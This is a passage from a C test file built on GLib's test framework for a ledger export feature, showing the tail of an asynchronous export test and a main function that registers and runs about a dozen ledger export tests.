                          export_done, &result);
  while (result == NULL)
    g_main_context_iteration (NULL, TRUE);
  g_assert_true (fg_ledger_export_finish (result, &n_rows, &error));
  g_assert_no_error (error);

  rows = read_back (path, NULL);
  g_assert_cmpuint (n_rows, ==, fg_test_count (demo_dir.db_path, "SELECT count (*) FROM notice"));
  g_assert_cmpuint (rows->len, ==, n_rows + 3);
  g_unlink (path);
}

int
main (int   argc,
      char *argv[])
{
  g_autofree char *xlsx2csv = NULL;
  int status;

  g_test_init (&argc, &argv, NULL);

  xlsx2csv = g_find_program_in_path ("xlsx2csv");
  if (xlsx2csv == NULL)
    {
      g_print ("1..0 # SKIP xlsx2csv is not installed (Debian package xlsx2csv)\n");
      return 0;
    }

  demo_set_up ();

  g_test_add_func ("/ledger/venues", test_ledger_venues);
  g_test_add_func ("/ledger/venues-region", test_ledger_venues_region);
  g_test_add_func ("/ledger/inspections", test_ledger_inspections);
  g_test_add_func ("/ledger/hazards", test_ledger_hazards);
  g_test_add_func ("/ledger/hazards-period", test_ledger_hazards_period);
  g_test_add_func ("/ledger/documents", test_ledger_documents);
  g_test_add_func ("/ledger/villages", test_ledger_villages);
  g_test_add_func ("/ledger/townships", test_ledger_townships);
  g_test_add_func ("/ledger/workbook-layout", test_ledger_workbook_layout);
  g_test_add_func ("/ledger/refusals", test_ledger_refusals);
  g_test_add_func ("/ledger/atomic", test_ledger_atomic);
  g_test_add_func ("/ledger/async", test_ledger_async);
  g_test_add_func ("/ledger/csv-formulas", test_ledger_csv_formulas);
  g_test_add_func ("/ledger/workbook-errors", test_ledger_workbook_errors);

  status = g_test_run ();
  demo_tear_down ();
  return status;
}
